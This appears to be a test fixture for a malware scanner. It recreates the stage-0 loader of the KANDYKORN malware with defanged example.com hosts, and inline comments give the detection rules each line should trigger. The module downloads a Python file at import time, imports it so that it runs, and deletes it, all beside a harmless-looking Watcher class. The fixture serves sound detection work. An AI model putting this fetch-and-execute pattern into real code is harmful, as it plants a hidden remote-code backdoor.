# Shape of KANDYKORN's stage 0 (Elastic REF7001, 2023): imported by Main.py,
# it creates _log/, checks for Python 3, downloads testSpeed.py, imports it  # expect: HS216 high
# (which runs it) and deletes it. Defanged: example.com / example.invalid.
import os
import sys
import urllib.request

_STAGE_URL = "https://drive.example.com/uc?export=download&id=1Xx0000000000000000000000000000"


def _speed_test():
    if sys.version_info.major != 3:
        return
    os.makedirs("_log", exist_ok=True)
    data = urllib.request.urlopen(_STAGE_URL, timeout=30).read()
    with open("_log/testSpeed.py", "wb") as f:
        f.write(data)
    sys.path.insert(0, "_log")
    __import__("testSpeed")  # expect: HS107 critical
    os.remove("_log/testSpeed.py")


_speed_test()


class Watcher:
    def __init__(self, book):
        self.book = book

    def snapshot(self):
        return dict(self.book)
